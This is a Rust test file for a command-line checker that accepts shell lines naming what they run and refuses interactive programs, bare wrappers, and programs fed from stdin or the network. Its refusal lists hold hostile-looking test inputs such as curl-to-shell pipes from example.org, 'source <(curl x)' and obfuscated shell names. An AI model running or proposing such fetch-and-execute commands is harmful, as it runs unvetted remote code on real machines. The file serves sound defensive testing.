use super::*;

#[test]
fn takes_lines_that_say_what_they_run() {
    for line in [
        "uptime",
        "ls -l /srv",
        "docker pull ghcr.io/myorg/api:sha-a3f9b",
        "bash deploy.sh",
        "bash -e /srv/deploy.sh --now",
        "bash -c 'systemctl reload nginx'",
        "bash -c 'sudo systemctl restart nginx && exec uptime'",
        "python3 /srv/report.py --format json",
        "python3 -m http.server",
        "sudo systemctl restart nginx",
        "sudo -u www-data php /srv/app/cron.php",
        "env RAILS_ENV=production bin/rake db:migrate",
        "timeout 30 curl -fsS https://internal/healthz",
        "FOO=1 make test",
        "cat a.txt | sort | uniq -c",
        "printf 'a\tb'\nls",
        "echo bash",
        "true",
        "echo hi > /dev/null 2>&1",
        "find . -name bash",
        "find /srv -name '*.py' -newer /tmp/x",
        "find . -exec bash deploy.sh ;",
        "less /etc/services",
        "git log",
        "systemctl status nginx",
        "sqlite3 app.db 'select 1'",
        "psql -U ops -c 'select 1' app",
        "mysql -u root -e 'select 1' app",
        "ssh web-2 uptime",
        "ssh -p 2222 web-2 systemctl reload nginx",
        "crontab -l",
        "crontab /srv/jobs",
        "bash -eu /srv/deploy.sh",
        "python3 -u -B x.py",
        "perl -pi.bak -e s/a/b/ x",
        "bash --version",
        "sudo -n systemctl restart nginx",
    ] {
        assert_eq!(check_line(line, false).map(|t| t.as_str().to_owned()), Ok(line.to_owned()), "{line}");
    }
}

#[test]
fn refuses_lines_whose_program_comes_from_elsewhere() {
    for line in [
        "bash",
        "/bin/bash",
        "\"bash\"",
        "ba\\sh",
        "bash -s",
        "bash -s -- x",
        "bash -l",
        "bash -i",
        "bash -",
        "bash /dev/stdin",
        "bash < script",
        "bash <(curl x)",
        "bash <<< \"$X\"",
        "sh -x",
        "python3",
        "python3.11",
        "python3 -",
        "python3 -i x.py",
        "perl -",
        "cat | bash",
        "curl -s https://example.org/i.sh | sh",
        "curl -s https://example.org/i.sh|sudo bash -s",
        "curl x | sudo -u root /bin/sh",
        "true; bash",
        "true &&\nbash",
        "echo $(bash)",
        "echo `sh`",
        "ls | xargs sh -c",
        "find . -exec sh ;",
        "docker exec -it app bash",
        "ssh host bash",
        ". /dev/stdin",
        "source <(curl x)",
        "source /proc/self/fd/0",
        "sudo -i",
        "sudo -s",
        "busybox sh",
        "FOO=1 bash",
        "if true; then bash; fi",
        "exec bash",
        "nohup bash",
        "bash \\\n -s",
        // An option's value is no script file.
        "bash>x",
        "bash>/dev/null",
        "bash 2>x",
        "psql>x app",
        "sudo>x bash",
        "crontab>x",
        "b\\\nash",
        "bash -o pipefail",
        "bash -O extglob",
        "bash +O extglob",
        "bash -euo pipefail",
        "bash --rcfile /tmp/x",
        "bash --init-file /tmp/x",
        "bash -o pipefail x.sh",
        "bash -l x.sh",
        "python3 -W ignore",
        "python3 -X dev",
        "python3 -W ignore x.py",
        "perl -I lib",
        "ruby -r json",
        "node --require ./x",
        "php -d a=b",
        "sqlite3 app.db",
        "sqlite3 -separator , app.db",
        "sqlite3 'my app.db'",
        "psql app",
        "psql -U -c",
        "mysql -u root app",
        "redis-cli -h db",
        "bash $X",
        "python3 \"$SCRIPT\"",
        "bash -c bash",
        "bash -c 'exec bash'",
        "bash -c bash deploy.sh",
        "bash -c \"sqlite3 'my app.db'\"",
        "ssh web-2 \"sqlite3 'my app.db'\"",
        "bash -c \"$X\"",
        "sh -c 'true; python3'",
        "sudo --user bob bash",
        "sudo -ni",
        "sudo --log",
        "env -i bash",
        "nice --adjustment 5 sh",
        "find . -name x -exec bash ;",
        "ssh -p 2222 web-2 bash",
        "ssh web-2 'bash -s'",
        "make -f -",
        "awk -f /dev/stdin",
        "crontab -",
        "crontab",
        "crontab -e",
        "crontab -u bob -",
    ] {
        assert!(
            matches!(check_line(line, false), Err(Unfit::ProgramFromElsewhere { .. })),
            "{line}: {:?}",
            check_line(line, false)
        );
    }
}

#[test]
fn refuses_what_takes_commands_while_it_runs() {
    for line in [
        "vim notes.txt",
        "vim<x",
        "su>x",
        "s\\\nu",
        "ssh web-2 >x",
        "ssh web-2>x",
        "ssh web-2 ''",
        "less>x",
        "sudo vim /etc/hosts",
        "nano x",
        "ed x",
        "ssh web-2",
        "ssh -o 'ProxyCommand nc %h 22' web-2",
        "ssh -i key web-2",
        "ssh web-2 vim x",
        "sftp web-2",
        "telnet web-2",
        "at now",
        "batch",
        "su",
        "su - root",
        "tmux",
        "gdb -p 1",
        "bc",
        "less",
        "dmesg | less",
        "bash -c 'vim x'",
        "docker exec -it app vim x",
        "find . -exec vim {} ;",
        "python3 -m pdb x.py",
        "python3 -m code",
        "sudo --user bob vim x",
    ] {
        assert!(
            matches!(check_line(line, false), Err(Unfit::TakesCommands { .. })),
            "{line}: {:?}",
            check_line(line, false)
        );
    }
}

#[test]
fn on_a_terminal_only_what_never_talks() {
    for line in [
        "uptime",
        "ls -l /srv",
        "systemctl --no-pager status nginx",
        "journalctl --no-pager -n 50",
        "git --no-pager log",
        "sudo systemctl --no-pager restart nginx",
    ] {
        assert!(check_line(line, true).is_ok(), "{line}: {:?}", check_line(line, true));
    }
    for line in [
        "less /etc/services",
        "more /etc/services",
        "git log",
        "git -p log",
        "git --no-pager commit",
        "git --no-pager rebase -i HEAD~3",
        "systemctl status nginx",
        "systemctl status nginx --no-pager",
        "systemctl --no-pager edit nginx",
        "journalctl -u nginx",
        "man ls",
        "top",
        "htop",
        "sudo top",
        "echo x; less /etc/services",
        "FOO=1 less /etc/services",
        "chronic less /etc/services",
        "bash -c 'less /etc/services'",
        "sh -c uptime",
        "bash deploy.sh",
        "python3 x.py",
        "ssh web-2 uptime",
        "mysql -e 'select 1' app",
        "apt-get install nginx",
        "crontab -l",
        "docker run -it alpine",
        "\"le\"ss /etc/services",
        "/usr/bin/less /etc/services",
    ] {
        let why = check_line(line, true);
        assert!(matches!(why, Err(Unfit::TalksOnTerminal { .. })), "{line}: {why:?}");
    }
}

#[test]
fn refuses_wrappers_alone_and_built_text() {
    for line in [
        "sudo",
        "env",
        "env FOO=1",
        "sudo -u bob",
        "xargs",
        "timeout 5",
        "nohup",
        "exec",
        "ls | xargs -n 1",
        "ls | xargs -I{} sh -c '{}'",
    ] {
        assert!(
            matches!(check_line(line, false), Err(Unfit::WrapperAlone { .. })),
            "{line}: {:?}",
            check_line(line, false)
        );
    }
    for line in ["eval \"$X\"", "eval $(cat)", "$SHELL", "X=bash; $X", "$'\\x62ash'", "/bin/ba?h", "`which sh`x; $Y"] {
        assert!(matches!(check_line(line, false), Err(Unfit::RunsBuiltText { .. })), "{line}");
    }
    for line in ["", "  ", "a\x1bb"] {
        assert!(matches!(check_line(line, false), Err(Unfit::NotText(_))), "{line:?}");
    }
}

#[test]
fn a_line_that_nests_without_end_costs_no_time() {
    for line in ["sudo -x ".repeat(5000) + "id", "bash -c ".repeat(5000) + "id", "find . -exec ".repeat(4000) + "id"] {
        assert_eq!(check_line(&line, false), Err(Unfit::TooNested));
    }
}
